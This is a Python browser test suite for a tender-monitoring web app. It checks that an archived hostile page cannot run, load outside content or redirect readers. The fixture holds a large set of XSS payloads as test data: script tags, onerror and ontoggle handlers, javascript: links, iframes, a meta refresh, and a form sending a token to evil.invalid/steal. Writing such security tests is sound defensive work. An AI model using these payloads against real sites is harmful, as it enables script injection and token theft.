"""A hostile page that was archived: in a real browser nothing of it runs, loads, moves the reader or sends."""

from datetime import UTC, datetime
from pathlib import Path

import pytest

from notices.finding import Place
from storage import open_store
from tests.browser.driving import Running, Window
from tests.review import invented

pytestmark = pytest.mark.browser

EVIL = "https://evil.invalid"
ATTACKS = f"""</title></head><body><base href="{EVIL}/">
<script>document.title='owned';alert(1)</script><script src="{EVIL}/x.js"></script>
<img src="{EVIL}/pixel.png" onerror="alert(2)"><img src=x onerror=alert(3)>
<svg onload="alert(4)"><image href="{EVIL}/i.svg"/></svg>
<meta http-equiv="refresh" content="0;url={EVIL}/gone">
<iframe src="{EVIL}/frame"></iframe><iframe srcdoc="<script>parent.alert(5)</script>"></iframe>
<link rel="stylesheet" href="{EVIL}/s.css"><style>body{{background:url({EVIL}/b.png)}}</style>
<div style="background-image:url({EVIL}/c.png)">一、采购内容</div>
<form action="{EVIL}/steal" id="verdict"><input name="token" autofocus onfocus="alert(6)"></form>
<a href="javascript:alert(7)" id="confirm">点这里</a><object data="{EVIL}/o"></object><embed src="{EVIL}/e">
<video src="{EVIL}/v" autoplay onerror=alert(8)></video><details open ontoggle=alert(9)>x</details>
参数 | <img src=x onerror=alert(10)> | NVIDIA A100 80GB
</textarea></blockquote></main><template><script>alert(11)</script></template>\u202e倒写\u202c"""


@pytest.fixture
def attacked(desk: Running) -> dict[str, str]:
    """The desk's store with a notice, a capture, a verdict and a file's name full of attacks; its addresses."""
    store = open_store(f"sqlite:///{desk.folder / 'tenderwatch.sqlite'}")
    title = f"<script>alert('title')</script><img src={EVIL}/t.png>采购公告"
    made = invented.notice(77, title, "tender", ATTACKS, url="javascript:alert('url')")
    parties = (invented.Party(f"</a><img src={EVIL}/p.png onerror=alert('party')>大学", "buyer"),)
    files = (invented.Document("javascript:alert('file')", f"<img src={EVIL}/f.png>.pdf"),)
    made = invented.replace(made, parties=parties, documents=files)
    quote = "NVIDIA A100 80GB"
    start = ATTACKS.index(quote)
    found = invented.finding(made, "nvidia-a100", "NVIDIA A100", Place("body", start, start + len(quote), quote))
    capture = invented.write_capture(desk.folder / "captures", "https://portal.invalid/evil", ATTACKS.encode(),
                                     "text/html; charset=utf-8")  # fmt: skip
    with store.begin() as unit:
        saved = unit.notices.save(made, invented.NOW, unit.captures.add(capture))
        (key,) = unit.findings.replace(saved.notice_id, made.source, [found], invented.NOW)
        unit.reviews.add(invented.Review(key, "unsure", ATTACKS, "<b>someone", datetime(2026, 3, 5, tzinfo=UTC)))
    store.close()
    return {"finding": f"/findings/{key}", "notice": f"/notices/{saved.notice_id}", "capture": capture.sha256}


def test_nothing_of_it_runs_loads_or_leads_away(desk: Running, window: Window, attacked: dict[str, str]) -> None:
    kept = f"/captures/{attacked['capture']}"
    paths = ["/", "/?view=all&words=采购公告", attacked["finding"], attacked["finding"] + "/text?origin=body",
             attacked["notice"], "/search?q=A100", "/buyers", "/overview", "/precision", "/audit",
             kept, f"{kept}/text", f"{kept}/source"]  # fmt: skip
    for path in paths:
        page = window.go(path)
        page.wait_for_load_state("networkidle")
        assert window.status == 200, path
        assert page.url.startswith(window.base), path
        assert "owned" not in page.title(), path
        if path.endswith(("/text", "/source")) and path.startswith(kept):
            assert page.evaluate("document.contentType") == "text/plain", path
            continue
        assert page.locator("iframe, object, embed, base, video, template, main script, main style").count() == 0, path
        assert page.evaluate("[...document.querySelectorAll('*')].some(e => [...e.attributes].some(a => "
                             "a.name.startsWith('on') || a.name === 'style'))") is False, path  # fmt: skip
        assert page.evaluate("[...document.links].every(a => /^https?:$/.test(a.protocol))"), path
        assert page.evaluate("[...document.forms].every(f => f.action.startsWith(location.origin) "
                             "|| f.method === 'dialog')"), path  # fmt: skip
        assert window.is_quiet(), (path, window.outside, window.dialogs, window.said)


def test_what_it_says_can_be_read_and_judged(window: Window, attacked: dict[str, str]) -> None:
    page = window.go(attacked["finding"])
    assert "document.title='owned'" in window.text(".evidence") or "characters" in window.text(".evidence")
    assert page.locator("#hit").inner_text() == "NVIDIA A100 80GB"
    assert page.locator("[id=verdict]").count() == page.locator("[id=confirm]").count() == 1
    window.press("#confirm")
    assert "Confirmed" in window.text(".flash")
    assert window.is_quiet()


def test_its_bytes_are_handed_out_unchanged_and_as_no_page(
    window: Window, attacked: dict[str, str], tmp_path: Path
) -> None:
    page = window.go(f"/captures/{attacked['capture']}")
    with page.expect_download() as started:
        page.click("a[href$='/download']")
    started.value.save_as(tmp_path / "kept")
    assert (tmp_path / "kept").read_bytes() == ATTACKS.encode()
    assert started.value.suggested_filename.endswith(".txt")
    window.go(f"/captures/{attacked['capture']}/source")
    assert page.evaluate("document.contentType") == "text/plain"
    assert "owned" in page.locator("body").inner_text()
    assert window.is_quiet()


def test_a_script_that_got_in_all_the_same_would_not_run(window: Window) -> None:
    """The second wall: the policy of the page refuses what escaping should have kept out."""
    page = window.go("/")
    page.evaluate("document.querySelector('main').insertAdjacentHTML('beforeend', "
                  "`<img src='https://evil.invalid/x.png' onerror='window.owned=1'>`)")  # fmt: skip
    page.evaluate("const s = document.createElement('script'); s.textContent = 'window.owned=2'; "
                  "document.body.append(s)")  # fmt: skip
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.owned") is None
    assert any("Content Security Policy" in each for each in window.said)


def test_a_dossier_of_it_does_nothing_where_it_is_opened_as_a_file(
    window: Window, attacked: dict[str, str], tmp_path: Path
) -> None:
    page = window.go(attacked["finding"])
    with page.expect_download() as started:
        page.click("a[href*='/dossier']")
    started.value.save_as(tmp_path / "dossier.html")
    address = (tmp_path / "dossier.html").as_uri()
    page.goto(address, wait_until="networkidle")
    assert "NVIDIA A100 80GB" in window.text("body")
    assert page.url == address
    assert [each for each in window.outside if each != address] == []
    assert (window.dialogs, window.said) == ([], [])
    assert page.locator("iframe, object, embed, base, video, script, form").count() == 0
